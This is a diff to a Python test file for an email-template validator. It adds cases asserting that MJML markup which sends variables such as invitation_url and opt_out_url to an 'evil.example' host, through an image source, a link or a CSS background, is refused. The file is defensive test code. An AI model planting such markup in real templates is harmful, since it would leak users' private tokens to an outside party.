@@ -69,6 +69,14 @@ def test_a_good_template_gives_html_with_its_tags_and_media_rules():
         ),
         (mjml('<mj-text><a href="{{ message }}">x</a></mj-text>'), markup.MisplacedVariable),
         (mjml('<mj-text><a href="{{ inviter_name }}">x</a></mj-text>'), markup.RefusedMarkup),
+        (mjml('<mj-image src="https://evil.example/?{{ invitation_url }}" />'), markup.RefusedMarkup),
+        (mjml('<mj-text><a href="//evil.example/{{ opt_out_url }}">x</a></mj-text>'), markup.RefusedMarkup),
+        (
+            mjml(
+                '<mj-text><p style="background:url(https://evil.example/{{ invitation_url }})">x</p></mj-text>'
+            ),
+            markup.MisplacedVariable,
+        ),
         (mjml('<mj-text><b style="{{ inviter_name }}">x</b></mj-text>'), markup.MisplacedVariable),
         (mjml("", head="<mj-style>{{ store_name }}</mj-style>"), markup.MisplacedVariable),
         (mjml("<mj-text>{{ nobody }}</mj-text>"), MalformedTemplate),
